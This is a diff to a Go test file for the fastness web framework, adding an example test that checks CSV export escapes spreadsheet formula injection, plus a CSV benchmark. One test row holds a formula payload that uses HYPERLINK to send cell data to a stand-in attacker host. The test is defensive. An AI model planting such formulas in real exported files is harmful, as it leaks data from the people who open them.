@@ -3,8 +3,11 @@ package fastness_test
 import (
 	"context"
 	"encoding/csv"
+	"fmt"
+	"log/slog"
 	"mime"
 	"net/http"
+	"net/http/httptest"
 	"reflect"
 	"slices"
 	"strings"
@@ -13,6 +16,7 @@ import (
 	"github.com/fastness/fastness"
 	"github.com/fastness/fastness/auth/access"
 	"github.com/fastness/fastness/fastnesstest"
+	"github.com/fastness/fastness/guard/ratelimit"
 	"github.com/fastness/fastness/schema"
 	"github.com/shopspring/decimal"
 )
@@ -236,4 +240,50 @@ func TestCSVThatFailsIsAProblem(t *testing.T) {
 	}
 	res := exported(t, fastness.CSV[row]{Rows: []row{{1}, {func() {}}}}).Get("/").Want(500)
 	res.WantHeader("Content-Type", "application/problem+json").WantHeader("Content-Disposition", "")
+}
+
+// The seller chose the name of the item; whoever opens the file sees it, and runs
+// nothing.
+func ExampleCSV() {
+	type sale struct {
+		Item  string          `json:"item"`
+		Price decimal.Decimal `json:"price"`
+	}
+	app := fastness.New(fastness.Config{Title: "Sales", Version: "1.0.0", Logger: slog.New(slog.DiscardHandler)})
+	fastness.Get(app, "/sales", func(context.Context, struct{}) (fastness.CSV[sale], error) {
+		return fastness.CSV[sale]{Name: "sales.csv", Rows: []sale{
+			{"Lamp", decimal.RequireFromString("42.5")},
+			{`=HYPERLINK("https://evil.example/?"&A1)`, decimal.RequireFromString("-5")},
+		}}, nil
+	}, access.Public)
+
+	r := httptest.NewRequest("GET", "https://localhost/sales", nil)
+	w := httptest.NewRecorder()
+	app.ServeHTTP(w, r)
+	fmt.Println(w.Header().Get("Content-Disposition"))
+	fmt.Println(strings.ReplaceAll(w.Body.String(), "\r", ""))
+	// Output:
+	// attachment; filename="sales.csv"
+	// "item","price"
+	// "Lamp",42.5
+	// "'=HYPERLINK(""https://evil.example/?""&A1)",-5
+}
+
+func BenchmarkCSV(b *testing.B) {
+	type row struct {
+		ID   int    `json:"id"`
+		Name string `json:"name"`
+		Note string `json:"note"`
+	}
+	rows := make([]row, 10_000)
+	for i := range rows {
+		rows[i] = row{i, "Lamp", "Brass, with a \"green\" shade; two of them."}
+	}
+	app := fastness.New(fastness.Config{Title: "T", Version: "1", NoCompression: true, Logger: slog.New(slog.DiscardHandler), RateLimit: ratelimit.Config{InsecureUnlimited: "it is a benchmark"}})
+	fastness.Get(app, "/", func(context.Context, struct{}) (fastness.CSV[row], error) { return fastness.CSV[row]{Rows: rows}, nil }, access.Public)
+	for b.Loop() {
+		w := httptest.NewRecorder()
+		app.ServeHTTP(w, httptest.NewRequest("GET", "https://localhost/", nil))
+		b.SetBytes(int64(w.Body.Len()))
+	}
 }
